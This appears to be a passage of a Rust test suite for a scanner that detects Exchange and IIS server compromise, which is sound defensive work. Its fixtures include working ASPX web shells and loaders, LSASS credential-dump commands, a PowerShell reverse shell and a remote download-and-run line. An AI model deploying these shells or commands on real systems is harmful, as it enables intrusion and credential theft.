//! Every rule family on synthetic fixtures written for these tests, with negatives.

mod common;

use common::*;
use exhunt_core::model::{Severity, VerdictLevel};
use exhunt_files::FileOptions;

const CHOPPER: &str = r#"<%@ Page Language="Jscript"%><%eval(Request.Item["q7"],"unsafe");%>"#;
const CHOPPER_B64: &str = r#"<%@ Page Language="Jscript" Debug=false%>
<%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Form["t"])));%>"#;
const OAB_LEFTOVER: &str = "Name : OAB (Default Web Site)\r\nPollInterval : 480\r\nExternalUrl : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k1\"],\"unsafe\");}</script>\r\nInternalUrl : https://ex01.corp.local/OAB\r\n";
const FILE_MANAGER: &str = r#"<%@ Page Language="C#" %>
<script runat="server">
void List(string p) { foreach (var d in System.IO.DriveInfo.GetDrives()) Response.Write(d.Name);
  foreach (var s in System.IO.Directory.GetDirectories(p)) Response.Write(s); }
void Run(string c) { var si = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c); System.Diagnostics.Process.Start(si); }
void Del(string f) { System.IO.File.Delete(f); }
void Up() { Request.Files[0].SaveAs(Server.MapPath(".") + "/x"); }
</script>"#;
const LOADER: &str = r#"<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  byte[] k = Encoding.Default.GetBytes("0123456789abcdef");
  byte[] c = Request.BinaryRead(Request.ContentLength);
  Assembly.Load(new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("P").Equals(this);
}
</script>"#;
const TUNNEL: &str = r#"<%@ Page Language="C#" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
protected void Page_Load(object o, EventArgs e) {
  string cmd = Request.Headers.Get("X-CMD");
  if (cmd == "CONNECT") { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); Session["s"] = s; Response.AddHeader("X-STATUS", "OK"); }
  else if (cmd == "DISCONNECT") { } else if (cmd == "FORWARD") { } else if (cmd == "READ") { }
}
</script>"#;
const STOCK_LOGON: &str = r#"<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<%@ Import Namespace="Microsoft.Exchange.Clients" %>
<!DOCTYPE HTML><html><head><title><%= Strings.GetLocalizedString(Strings.IDs.OutlookWebApp) %></title>
<script type="text/javascript" src="<%=InlineJavascript("flogon.js")%>"></script></head>
<body><form action="/owa/auth.owa" method="POST" name="logonForm"><% if (IsDownLevelClient) { %><div></div><% } %></form></body></html>"#;
const STOCK_WITH_SHELL: &str = r#"<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<script language="C#" runat="server">void Page_Init(){ if (Request["h"] != null) Response.Write(Request["h"]); }</script>
<html><body></body></html>"#;
const PROCESS_PAGE: &str = r#"<%@ WebHandler Language="C#" Class="H" %>
public class H : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext c) {
  var p = new System.Diagnostics.ProcessStartInfo("powershell.exe", c.Request.Form["a"]);
  System.Diagnostics.Process.Start(p); } public bool IsReusable { get { return false; } } }"#;
const REFLECTIVE_PAGE: &str = r#"<%@ Page Language="C#" %><script runat="server">
static string blob = "TVqQAAMAAAAEAAAA";
void Page_Load(){ var a = System.Reflection.Assembly.Load(System.Convert.FromBase64String(blob)); Response.Write(a.FullName); }
</script>"#;

// Benign pages that use eval-like words, base64 images and processes harmlessly.
const BENIGN_DATABIND: &str = r#"<%@ Page Language="C#" MasterPageFile="~/Site.master" %>
<asp:Repeater runat="server" ID="list"><ItemTemplate><%# Eval("Title") %> <%# DataBinder.Eval(Container.DataItem, "Price") %></ItemTemplate></asp:Repeater>
<script type="text/javascript">var cfg = eval('(' + json + ')'); var q = Request; </script>
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" />"#;
const BENIGN_ADMIN: &str = r#"<%@ Page Language="C#" %><script runat="server">
void ProcessOrder(object s, EventArgs e) { var id = Request.QueryString["id"]; Orders.Process(id); }
void Page_Load() { foreach (var f in System.IO.Directory.GetFiles(Server.MapPath("~/images"))) list.Items.Add(f); }
</script>"#;

fn scan_default(tree: &Tree) -> exhunt_core::ScanReport {
    scan(tree, FileOptions::default())
}

#[test]
fn china_chopper_variants() {
    let t = Tree::new();
    t.write("inetpub/wwwroot/aspnet_client/system_web/qwertyui.aspx", CHOPPER)
        .write("inetpub/wwwroot/site/b.aspx", CHOPPER_B64)
        .write(
            "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx",
            OAB_LEFTOVER,
        );
    let r = scan_default(&t);
    assert_eq!(
        ids_for(&r, "inetpub/wwwroot/aspnet_client/system_web/qwertyui.aspx"),
        ["EXH-FN-001", "EXH-FY-001"]
    );
    assert_eq!(ids_for(&r, "inetpub/wwwroot/site/b.aspx"), ["EXH-FY-001"]);
    assert_eq!(
        ids_for(&r, "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx"),
        ["EXH-FN-002", "EXH-FN-004", "EXH-FY-001", "EXH-FY-002"]
    );
    assert_eq!(r.hosts[0].verdict, VerdictLevel::Compromised);
    let f = r
        .findings
        .iter()
        .find(|f| f.rule.id == "EXH-FY-001" && f.path.ends_with("qwertyui.aspx"))
        .unwrap();
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.extra["size"], CHOPPER.len());
    assert_eq!(f.extra["sha256"].as_str().unwrap().len(), 64);
    assert!(f.extra.contains_key("modified"));
    let m = &f.extra["matches"][0];
    assert!(m["offset"].as_u64().is_some() && m["data"].as_str().unwrap().contains("eval"));
    assert_eq!(
        f.url_path.as_deref(),
        Some("/aspnet_client/system_web/qwertyui.aspx")
    );
    assert_eq!(f.line(), None);
}

#[test]
fn shells_families_by_content_in_an_ordinary_folder() {
    let t = Tree::new();
    t.write("inetpub/wwwroot/app/fm.aspx", FILE_MANAGER)
        .write("inetpub/wwwroot/app/ld.aspx", LOADER)
        .write("inetpub/wwwroot/app/tn.aspx", TUNNEL)
        .write("inetpub/wwwroot/app/pr.ashx", PROCESS_PAGE)
        .write("inetpub/wwwroot/app/rf.aspx", REFLECTIVE_PAGE);
    let r = scan_default(&t);
    assert!(ids_for(&r, "inetpub/wwwroot/app/fm.aspx").contains(&"EXH-FY-003".into()));
    assert!(ids_for(&r, "inetpub/wwwroot/app/ld.aspx").contains(&"EXH-FY-004".into()));
    assert!(ids_for(&r, "inetpub/wwwroot/app/tn.aspx").contains(&"EXH-FY-005".into()));
    assert_eq!(ids_for(&r, "inetpub/wwwroot/app/pr.ashx"), ["EXH-FY-009"]);
    assert_eq!(ids_for(&r, "inetpub/wwwroot/app/rf.aspx"), ["EXH-FY-010"]);
}

#[test]
fn obfuscated_page() {
    let t = Tree::new();
    let mut page = String::from("<%@ Page Language=\"C#\" %><% var s = \"");
    for _ in 0..300 {
        page.push_str("\\u0041");
    }
    page.push_str("\"; %>");
    t.write("inetpub/wwwroot/app/o.aspx", &page);
    // The same escapes in a static script are not a server-side page.
    t.write("inetpub/wwwroot/app/o.js", &page);
    let r = scan_default(&t);
    assert_eq!(ids_for(&r, "inetpub/wwwroot/app/o.aspx"), ["EXH-FY-011"]);
    assert!(ids_for(&r, "inetpub/wwwroot/app/o.js").is_empty());
}

#[test]
fn proxyshell_pst_and_certificate_request_pages() {
    let t = Tree::new();
    let mut pst = b"!BDN\x0e\xc7\x4d\x53\x00\x00".to_vec();
    pst.extend_from_slice(&[0u8; 300]);
    pst.extend_from_slice(b"<script language=\"JScript\" runat=\"server\">x</script>");
    let mut csr = vec![0x30, 0x82, 0x02, 0x10, 0x30, 0x82];
    csr.extend_from_slice(&[0u8; 40]);
    csr.extend_from_slice(b"CN=<script language=\"JScript\" runat=\"server\">y</script>");
    let mut plain_pst = b"!BDN".to_vec();
    plain_pst.extend_from_slice(&[0u8; 100]);
    t.write("inetpub/wwwroot/aspnet_client/a.aspx", &pst)
        .write("inetpub/wwwroot/app/c.aspx", &csr)
        .write("inetpub/wwwroot/app/backup.pst", &plain_pst);
    let r = scan_default(&t);
    assert!(ids_for(&r, "inetpub/wwwroot/aspnet_client/a.aspx").contains(&"EXH-FY-006".into()));
    assert_eq!(ids_for(&r, "inetpub/wwwroot/app/c.aspx"), ["EXH-FY-007"]);
    // A real PST is no web page (EXH-FY-006 stays quiet); in a web folder it is a mailbox export
    // to report by name and place.
    assert_eq!(
        ids_for(&r, "inetpub/wwwroot/app/backup.pst"),
        ["EXH-FN-040"]
    );
}

#[test]
fn stock_exchange_files_are_quiet_and_tampered_ones_are_not() {
    let t = Tree::new();
    let auth = "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth";
    let ecp = "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/ecp/auth";
    t.write(&format!("{auth}/logon.aspx"), STOCK_LOGON)
        .write(&format!("{auth}/errorFE.aspx"), STOCK_LOGON)
        .write(
            &format!("{auth}/15.1.2375.7/themes/resources/logon.css"),
            "body{}",
        )
        .write(&format!("{ecp}/TimeoutLogoff.aspx"), STOCK_LOGON)
        .write(
            "inetpub/wwwroot/aspnet_client/system_web/4_0_30319/x.js",
            "var a=1;",
        )
        .write("inetpub/wwwroot/iisstart.htm", "<html>IIS</html>")
        .write(&format!("{auth}/signout.aspx"), STOCK_WITH_SHELL)
        .write(&format!("{ecp}/logon.aspx"), STOCK_LOGON)
        .write("inetpub/wwwroot/aspnet_client/logon.aspx", STOCK_LOGON);
    let r = scan_default(&t);
    assert_eq!(
        hits(&r),
        [
            (
                "EXH-FN-001".into(),
                "EX01/C/inetpub/wwwroot/aspnet_client/logon.aspx".into()
            ),
            ("EXH-FN-003".into(), format!("EX01/C/{ecp}/logon.aspx")),
            ("EXH-FY-008".into(), format!("EX01/C/{auth}/signout.aspx")),
        ]
    );
}

#[test]
fn benign_pages_with_eval_words_base64_images_and_processes() {
    let t = Tree::new();
    t.write("inetpub/wwwroot/shop/list.aspx", BENIGN_DATABIND)
        .write("inetpub/wwwroot/shop/admin.aspx", BENIGN_ADMIN)
        .write(
            "inetpub/wwwroot/shop/app.js",
            "function f(s){ return eval(s); } // Request",
        )
        .write(
            "inetpub/wwwroot/shop/logo.png",
            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
        );
    let r = scan_default(&t);
    assert!(r.findings.is_empty(), "{:?}", hits(&r));
    assert_eq!(r.hosts[0].verdict, VerdictLevel::NoEvidence);
}

#[test]
fn lsass_dumps_and_dump_scripts() {
    let t = Tree::new();
    t.write("Windows/Temp/lsass.dmp", minidump("C:\\Windows\\System32\\lsass.exe"))
        .write("root/out.bin", minidump("C:\\Windows\\System32\\lsass.exe"))
        .write("Windows/Temp/wer.dmp", minidump("C:\\Program Files\\app\\app.exe"))
        .write(
            "Windows/Temp/test.bat",
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\windows\\temp\\lsass.dmp full\r\n",
        )
        .write("PerfLogs/p.cmd", "procdump64.exe -accepteula -ma lsass.exe c:\\perflogs\\l.dmp\r\n");
    let r = scan_default(&t);
    assert_eq!(
        ids_for(&r, "Windows/Temp/lsass.dmp"),
        ["EXH-FN-020", "EXH-FY-020"]
    );
    assert_eq!(ids_for(&r, "root/out.bin"), ["EXH-FY-020"]);
    assert!(ids_for(&r, "Windows/Temp/wer.dmp").is_empty());
    assert_eq!(ids_for(&r, "Windows/Temp/test.bat"), ["EXH-FY-023"]);
    assert_eq!(ids_for(&r, "PerfLogs/p.cmd"), ["EXH-FY-023"]);
}

#[test]
fn staging_archives_need_context() {
    let t = Tree::new();
    t.write(
        "ProgramData/Vendor/defs.zip",
        zip_with(&["defs/engine.dat"]),
    )
    .write(
        "ProgramData/Vendor/Updates/2021/update.zip",
        zip_with(&["u.msi"]),
    )
    .write(
        "inetpub/wwwroot/app/readme.zip",
        zip_with(&["pst-guide.txt"]),
    );
    let r = scan_default(&t);
    assert_eq!(ids_for(&r, "ProgramData/Vendor/defs.zip"), ["EXH-FY-021"]);
    assert!(ids_for(&r, "ProgramData/Vendor/Updates/2021/update.zip").is_empty());
    assert!(ids_for(&r, "inetpub/wwwroot/app/readme.zip").is_empty());
    let vendor = r
        .findings
        .iter()
        .find(|f| f.path.ends_with("defs.zip"))
        .unwrap();
    assert_eq!(
        vendor.severity,
        Severity::Low,
        "a vendor zip alone stays low"
    );
    assert_eq!(r.hosts[0].verdict, VerdictLevel::NoEvidence);

    // An archive of mailboxes is high by itself, and raises the other archives.
    t.write(
        "ProgramData/it.zip",
        zip_with(&["mail/ceo.pst", "mail/cfo.pst"]),
    );
    let r = scan_default(&t);
    assert_eq!(
        ids_for(&r, "ProgramData/it.zip"),
        ["EXH-FY-021", "EXH-FY-022"]
    );
    let vendor = r
        .findings
        .iter()
        .find(|f| f.path.ends_with("defs.zip"))
        .unwrap();
    assert_eq!(vendor.severity, Severity::High);
    assert!(vendor.notes.iter().any(|n| n.contains("raised")));
    assert_eq!(r.hosts[0].verdict, VerdictLevel::Compromised);
}

#[test]
fn vendor_zip_alone_keeps_a_clean_verdict() {
    let t = Tree::new();
    t.write("ProgramData/McAfee/update.zip", zip_with(&["engine.dat"]));
    let r = scan_default(&t);
    assert_eq!(r.hosts[0].verdict, VerdictLevel::NoEvidence);
}

#[test]
fn tools_and_reverse_shells() {
    let t = Tree::new();
    t.write(
        "Users/Public/a.ps1",
        "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.9',443);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);$stream.Write($sendbyte,0,$sendbyte.Length)}",
    )
    .write(
        "ProgramData/b.ps1",
        "IEX (New-Object System.Net.Webclient).DownloadString('https://example.invalid/powercat.ps1');powercat -c 10.0.0.9 -p 443 -e cmd",
    )
    .write("ProgramData/procdump64.exe", b"MZ\x90\0")
    .write("root/DrSDKCaller.exe", b"MZ\x90\0")
    .write("Users/Public/net.ps1", "$c = New-Object System.Net.Sockets.TCPClient('mail', 25); $c.Close()");
    let r = scan_default(&t);
    assert_eq!(ids_for(&r, "Users/Public/a.ps1"), ["EXH-FY-024"]);
    assert_eq!(ids_for(&r, "ProgramData/b.ps1"), ["EXH-FY-024"]);
    assert_eq!(ids_for(&r, "ProgramData/procdump64.exe"), ["EXH-FN-022"]);
    assert_eq!(ids_for(&r, "root/DrSDKCaller.exe"), ["EXH-FN-021"]);
    assert!(ids_for(&r, "Users/Public/net.ps1").is_empty());
}

#[test]
fn ransomware_traces() {
    let t = Tree::new();
    let mut enc = b"DEARCRY!".to_vec();
    enc.extend_from_slice(&[0x5a; 300]);
    t.write("Users/Public/report.docx.CRYPT", &enc)
        .write("Users/Public/notes.CRYPT", b"not really encrypted")
        .write(
            "Users/Public/decrypt_file.TxT",
            "We are BLACK KINGDOM. Your files have been encrypted. Send 0.1 bitcoin.",
        )
        .write(
            "Users/Public/kingdom.txt",
            "The black kingdom of the board game",
        );
    let r = scan_default(&t);
    assert_eq!(
        ids_for(&r, "Users/Public/report.docx.CRYPT"),
        ["EXH-FN-030", "EXH-FY-030"]
    );
    assert_eq!(ids_for(&r, "Users/Public/notes.CRYPT"), ["EXH-FN-030"]);
    assert_eq!(
        ids_for(&r, "Users/Public/decrypt_file.TxT"),
        ["EXH-FN-031", "EXH-FY-031"]
    );
    assert!(ids_for(&r, "Users/Public/kingdom.txt").is_empty());
}

#[test]
fn iis_config_tampering() {
    let t = Tree::new();
    t.write(
        "Windows/System32/inetsrv/config/applicationHost.config",
        r#"<configuration><system.applicationHost><sites><site name="Default Web Site" id="1">
<application path="/"><virtualDirectory path="/" physicalPath="%SystemDrive%\inetpub\wwwroot" /></application>
<application path="/zoo"><virtualDirectory path="/" physicalPath="C:\ProgramData\ZOO" /></application>
</site></sites></system.applicationHost><system.webServer><globalModules>
<add name="UriCacheModule" image="%windir%\System32\inetsrv\cachuri.dll" />
<add name="Helper" image="C:\Users\Public\h.dll" />
</globalModules></system.webServer></configuration>"#,
    )
    .write(
        "inetpub/wwwroot/app/web.config",
        r#"<configuration><system.webServer><handlers><add name="x" path="*.xyz" verb="*" modules="CgiModule" scriptProcessor="C:\Windows\System32\cmd.exe" /></handlers></system.webServer></configuration>"#,
    )
    .write(
        "inetpub/wwwroot/blog/web.config",
        r#"<configuration><system.webServer><modules><add name="Blog" type="BlogEngine.Core.Web.HttpModules.UrlRewrite, BlogEngine.Core" /></modules></system.webServer></configuration>"#,
    );
    let r = scan_default(&t);
    assert_eq!(
        ids_for(&r, "Windows/System32/inetsrv/config/applicationHost.config"),
        ["EXH-FC-001", "EXH-FC-002"]
    );
    assert_eq!(
        ids_for(&r, "inetpub/wwwroot/app/web.config"),
        ["EXH-FY-040"]
    );
    assert!(ids_for(&r, "inetpub/wwwroot/blog/web.config").is_empty());
    // The value and its line are the evidence.
    let vdir = r
        .findings
        .iter()
        .find(|f| f.rule.id == "EXH-FC-001")
        .expect("EXH-FC-001");
    assert_eq!(vdir.extra["value"], r"C:\ProgramData\ZOO");
    assert!(
        vdir.evidence
            .contains(r#"physicalPath="C:\ProgramData\ZOO""#),
        "{}",
        vdir.evidence
    );
}

#[test]
fn config_checks_apply_to_the_live_configuration_and_served_web_configs_only() {
    // The same tampered configuration as a copy in a web application's test data, a backup
    // and a data file with a .config name: none of them configures IIS.
    let apphost = r#"<configuration><system.applicationHost><sites><site name="s" id="1"><application path="/zoo"><virtualDirectory path="/" physicalPath="C:\ProgramData\ZOO" /></application></site></sites></system.applicationHost><system.webServer><globalModules><add name="Helper" image="C:\Users\Public\h.dll" /></globalModules><handlers><add name="x" path="*.xyz" verb="*" modules="CgiModule" scriptProcessor="C:\Windows\System32\cmd.exe" /></handlers></system.webServer></configuration>"#;
    let web = r#"<configuration><system.webServer><globalModules><add name="Helper" image="C:\Users\Public\h.dll" /></globalModules><handlers><add name="x" path="*.xyz" verb="*" modules="CgiModule" scriptProcessor="C:\Windows\System32\cmd.exe" /></handlers></system.webServer></configuration>"#;
    let t = Tree::new();
    t.write(
        "inetpub/wwwroot/app/tests/data/applicationHost.config",
        apphost,
    )
    .write("ProgramData/backup/applicationHost.config", apphost)
    .write("inetpub/wwwroot/app/App_Data/site.db.config", apphost)
    .write("ProgramData/backup/web.config", web)
    .write(
        "Windows/System32/inetsrv/config/applicationHost.config",
        apphost,
    )
    .write("inetpub/wwwroot/app/web.config", web);
    let r = scan_default(&t);
    for copy in [
        "inetpub/wwwroot/app/tests/data/applicationHost.config",
        "ProgramData/backup/applicationHost.config",
        "inetpub/wwwroot/app/App_Data/site.db.config",
        "ProgramData/backup/web.config",
    ] {
        assert!(
            ids_for(&r, copy).is_empty(),
            "{copy}: {:?}",
            ids_for(&r, copy)
        );
    }
    assert_eq!(
        ids_for(&r, "Windows/System32/inetsrv/config/applicationHost.config"),
        ["EXH-FC-001", "EXH-FC-002", "EXH-FY-040"]
    );
    assert_eq!(
        ids_for(&r, "inetpub/wwwroot/app/web.config"),
        ["EXH-FC-002", "EXH-FY-040"]
    );
}

#[test]
fn third_wave_families_in_every_server_file_type_and_their_look_alikes() {
    let t = Tree::new();
    let w = |name: &str, body: &str| {
        t.write(&format!("inetpub/wwwroot/app/{name}"), body);
    };
    // EXH-FY-028: Godzilla/Behinder design (AES under an MD5-derived key, assembly kept in the
    // session) in a handler, a WCF service and an App_Code class, where the input is an
    // argument rather than Request.
    let godzilla = "string key = \"3c6e0b8a9c15224a\"; byte[] Dec(byte[] d){ var a = new System.Security.Cryptography.RijndaelManaged(); return a.CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(d, 0, d.Length); } object Run(byte[] data){ data = Dec(data); if (HttpContext.Current.Session[\"payload\"] == null) { HttpContext.Current.Session[\"payload\"] = System.Reflection.Assembly.Load(data); return null; } object o = ((System.Reflection.Assembly)HttpContext.Current.Session[\"payload\"]).CreateInstance(\"LY\"); o.Equals(data); return o; }";
    w("gz.ashx", &format!("<%@ WebHandler Language=\"C#\" Class=\"H\" %>using System.Web; public class H : IHttpHandler, System.Web.SessionState.IRequiresSessionState {{ public void ProcessRequest(HttpContext c) {{ Run(c.Request.BinaryRead(c.Request.ContentLength)); }} {godzilla} public bool IsReusable {{ get {{ return false; }} }} }}"));
    w("gz.svc", &format!("<%@ ServiceHost Language=\"C#\" Service=\"S\" %>[System.ServiceModel.ServiceContract] public class S {{ [System.ServiceModel.OperationContract] public object Call(byte[] b) {{ return Run(b); }} {godzilla} }}"));
    w(
        "App_Code/Cache.cs",
        &format!("using System.Web; public class Cache {{ {godzilla} }}"),
    );
    // EXH-FY-029: SharPyShell-style: base64 + GZip (or XOR) + compile or load, web-facing.
    w("sp.asmx", "<%@ WebService Language=\"C#\" Class=\"W\" %>using System.IO; using System.IO.Compression; public class W : System.Web.Services.WebService { [System.Web.Services.WebMethod] public string X(string s) { var z = new GZipStream(new MemoryStream(System.Convert.FromBase64String(s)), CompressionMode.Decompress); var src = new StreamReader(z).ReadToEnd(); var p = new Microsoft.CSharp.CSharpCodeProvider(); var r = p.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), src); return (string)r.CompiledAssembly.CreateInstance(\"M\").GetType().GetMethod(\"R\").Invoke(null, null); } }");
    // EXH-FY-034: tool page reading IIS application-pool passwords; connection string on demand.
    w("iis.aspx", "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"Microsoft.Web.Administration\" %><script runat=\"server\">void Page_Load(){ foreach (var p in new ServerManager().ApplicationPools) Response.Write(p.Name + \" \" + p.ProcessModel.UserName + \" \" + p.ProcessModel.Password); }</script>");
    w("cs.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">void Go(object s, EventArgs e){ txtOut.Text = ConfigurationManager.ConnectionStrings[txtName.Text].ConnectionString; }</script>");
    // EXH-FY-035: component probe page.
    w("probe.aspx", "<%@ Page Language=\"JScript\" %><% var list = [\"WScript.Shell\",\"Shell.Application\",\"Scripting.FileSystemObject\",\"ADODB.Stream\",\"WScript.Network\",\"MSXML2.ServerXMLHTTP\",\"JMail.SmtpMail\"]; for (var i in list) { try { Server.CreateObject(list[i]); } catch (e) {} } %>");
    // EXH-FY-036: key-gated uploader into its own folder.
    w("up3.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">const string KEY = \"k3y\"; void Page_Load(){ if (Request.Params[\"authkey\"] != KEY) return; var f = Request.Files[0]; var fi = new System.IO.FileInfo(Request.PhysicalPath); using (var fs = new System.IO.FileStream(System.IO.Path.Combine(fi.DirectoryName, System.IO.Path.GetFileName(f.FileName)), System.IO.FileMode.Create)) { f.InputStream.CopyTo(fs); } }</script>");
    // EXH-FY-014: obfuscated China Chopper one-liners (base64 of a variable with the context
    // word cut in pieces; the whole call built from comment-padded fragments).
    w("cc1.aspx", "<%@ Page Language=\"Jscript\" validateRequest=\"false\" %><%var c=new System.Text.UTF8Encoding;var k=Request[\"x\"];eval(c.GetString(System.Convert.FromBase64String(k)),\"un\"+\"safe\");%>");
    w("cc2.aspx", "<%@ Page Language = Jscript %><%var/*-/*-*/P/*-/*-*/=/*-/*-*/\"e\"+\"v\"+\"a\"+\"l\"+\"(\"+\"R\"+\"e\"+\"q\"+\"u\"+\"e\"+\"s\"+\"t\"+\"[0-2-5]\"+\",\"+\"\\\"unsafe\\\"\"+\")\";eval(P,\"u\"+\"n\"+\"s\"+\"a\"+\"f\"+\"e\");%>");
    // EXH-FY-037: keyed loader stub.
    w("stub.aspx", "<script language=\"C#\" runat=\"server\">\nAcme.Web.Loader l = new Acme.Web.Loader(\"9f86d081884c7d65\");\n</script>");
    // Look-alikes: an application caching an assembly it loads by name, decrypting a cookie
    // with a configured key; a component check of one ProgID; an upload page storing under
    // MapPath("~/uploads"); a page using a named connection string; a constructor with a
    // GUID; a download handler inside a folder of its own.
    w("ok1.ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>public class H : System.Web.IHttpHandler, System.Web.SessionState.IRequiresSessionState { public void ProcessRequest(System.Web.HttpContext c) { var aes = System.Security.Cryptography.Aes.Create(); aes.Key = System.Text.Encoding.UTF8.GetBytes(System.Configuration.ConfigurationManager.AppSettings[\"CookieKey\"]); var d = aes.CreateDecryptor(); c.Session[\"plugin\"] = System.Reflection.Assembly.Load(\"Contoso.Plugins\"); } public bool IsReusable { get { return false; } } }");
    w("ok2.asmx", "<%@ WebService Language=\"C#\" Class=\"W\" %>public class W : System.Web.Services.WebService { [System.Web.Services.WebMethod] public byte[] Zip(string s) { var ms = new System.IO.MemoryStream(); using (var z = new System.IO.Compression.GZipStream(ms, System.IO.Compression.CompressionMode.Compress)) { var b = System.Convert.FromBase64String(s); z.Write(b, 0, b.Length); } return ms.ToArray(); } }");
    w("ok3.aspx", "<%@ Page Language=\"VB\" %><% Dim o = Server.CreateObject(\"Scripting.FileSystemObject\") %>");
    w("ok4.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(){ if (Request.Form[\"token\"] != Session[\"token\"] as string) return; var f = Request.Files[0]; f.SaveAs(Server.MapPath(\"~/uploads/\") + System.Guid.NewGuid() + \".bin\"); }</script>");
    w("ok5.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(){ grid.DataSource = new SqlDataSource(ConfigurationManager.ConnectionStrings[\"Main\"].ConnectionString, \"select 1\"); }</script>");
    w("ok6.aspx", "<script language=\"C#\" runat=\"server\">\nvar id = new System.Guid(\"9f86d081-884c-7d65-9f86-d081884c7d65\"); var w = new Acme.Widget(\"title\");\n</script>");
    w("ok7.ashx", "<%@ WebHandler Language=\"C#\" Class=\"D\" %>public class D : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext c) { if (c.Request[\"key\"] != \"public\") return; string f = c.Server.MapPath(\"~/files/\" + System.IO.Path.GetFileName(c.Request[\"f\"])); c.Response.WriteFile(f); foreach (var x in System.IO.Directory.GetFiles(c.Server.MapPath(\"~/files\"))) c.Response.Write(x); } public bool IsReusable { get { return false; } } }");
    let r = scan_default(&t);
    for (name, id) in [
        ("gz.ashx", "EXH-FY-028"),
        ("gz.svc", "EXH-FY-028"),
        ("App_Code/Cache.cs", "EXH-FY-028"),
        ("sp.asmx", "EXH-FY-029"),
        ("iis.aspx", "EXH-FY-034"),
        ("cs.aspx", "EXH-FY-034"),
        ("probe.aspx", "EXH-FY-035"),
        ("up3.aspx", "EXH-FY-036"),
        ("stub.aspx", "EXH-FY-037"),
        ("cc1.aspx", "EXH-FY-014"),
        ("cc2.aspx", "EXH-FY-014"),
    ] {
        let ids = ids_for(&r, &format!("inetpub/wwwroot/app/{name}"));
        assert!(
            ids.contains(&id.to_string()),
            "{name}: expected {id}, got {ids:?}"
        );
    }
    for name in [
        "ok1.ashx", "ok2.asmx", "ok3.aspx", "ok4.aspx", "ok5.aspx", "ok6.aspx", "ok7.ashx",
    ] {
        let ids = ids_for(&r, &format!("inetpub/wwwroot/app/{name}"));
        assert!(ids.is_empty(), "{name}: expected no finding, got {ids:?}");
    }
}

#[test]
fn iis_config_saved_as_utf16_is_read() {
    let t = Tree::new();
    let text = "<configuration>\r\n<virtualDirectory path=\"/who\" physicalPath=\"C:\\ProgramData\\WHO\" />\r\n</configuration>";
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    t.write(
        "Windows/System32/inetsrv/config/applicationHost.config",
        bytes,
    );
    let r = scan_default(&t);
    assert_eq!(
        ids_for(&r, "Windows/System32/inetsrv/config/applicationHost.config"),
        ["EXH-FC-001"]
    );
}

#[test]
fn published_names_in_web_folders_only() {
    let t = Tree::new();
    t.write("inetpub/wwwroot/supp0rt.aspx", "<html></html>")
        .write("Users/Public/supp0rt.aspx", "<html></html>")
        .write(
            "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/OAB/log.aspx",
            "<html></html>",
        );
    let r = scan_default(&t);
    assert_eq!(ids_for(&r, "inetpub/wwwroot/supp0rt.aspx"), ["EXH-FN-004"]);
    assert!(ids_for(&r, "Users/Public/supp0rt.aspx").is_empty());
    assert_eq!(
        ids_for(
            &r,
            "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/OAB/log.aspx"
        ),
        ["EXH-FN-005"]
    );
}

#[test]
fn uploaders_and_database_clients() {
    let t = Tree::new();
    t.write(
        "inetpub/wwwroot/app/up.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">void Go(){ Request.Files[0].SaveAs(Request.Form["to"]); }</script>"#,
    )
    .write(
        "inetpub/wwwroot/app/db.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">void Q(){ var c = new SqlConnection(conn.Text); var r = new SqlCommand(sql.Text, c).ExecuteReader(); }</script>"#,
    )
    .write(
        "inetpub/wwwroot/app/goodup.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">void Go(){ var f = Request.Files[0]; f.SaveAs(Server.MapPath("~/uploads/") + Guid.NewGuid()); }</script>"#,
    )
    .write(
        "inetpub/wwwroot/app/gooddb.aspx",
